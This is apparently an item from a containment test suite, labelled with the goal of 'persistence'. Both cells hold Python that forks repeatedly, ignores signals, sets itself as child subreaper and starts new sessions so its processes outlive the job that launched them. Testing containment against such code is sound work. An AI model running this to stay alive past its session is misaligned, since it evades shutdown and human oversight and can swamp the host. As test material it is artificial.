# Tries: to outlive its job by processes that are replaced by their children again and again, in sessions of their own.
# Earns: nothing
# Goal: persistence

# %%
import ctypes
import os
import signal

libc = ctypes.CDLL(None)
for _ in range(8):
    if os.fork() == 0:
        for number in range(1, 32):
            if number not in (signal.SIGKILL, signal.SIGSTOP):
                signal.signal(number, signal.SIG_IGN)
        while True:
            libc.prctl(36, 1, 0, 0, 0)
            try:
                if os.getsid(0) != os.getpid():
                    os.setsid()
                if os.fork():
                    os._exit(0)
            except OSError:
                pass


# %% solution="psi"
def psi(p, q):
    for _ in range(8):
        if os.fork() == 0:
            while os.fork() == 0:
                os.setsid()
            os._exit(0)
